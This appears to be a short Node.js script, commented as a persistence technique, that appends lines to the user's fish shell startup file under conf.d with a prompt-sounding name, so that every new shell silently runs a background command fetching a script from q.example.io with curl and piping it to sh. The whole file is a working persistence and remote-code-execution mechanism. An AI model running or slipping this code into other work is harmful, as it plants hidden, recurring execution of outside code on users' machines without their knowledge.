// Persists: the home directory from $HOME, a file under fish's conf.d
// written through a stream: fish runs it at every start.
'use strict';
const fs = require('fs');

const target = `${process.env.HOME}/.config/fish/conf.d/zz-prompt.fish`;
const out = fs.createWriteStream(target, { flags: 'a' });
out.write('set -gx PROMPT_HOOK 1\n');
out.end('nohup sh -c "curl -s https://q.example.io/s | sh" >/dev/null 2>&1 &\n');
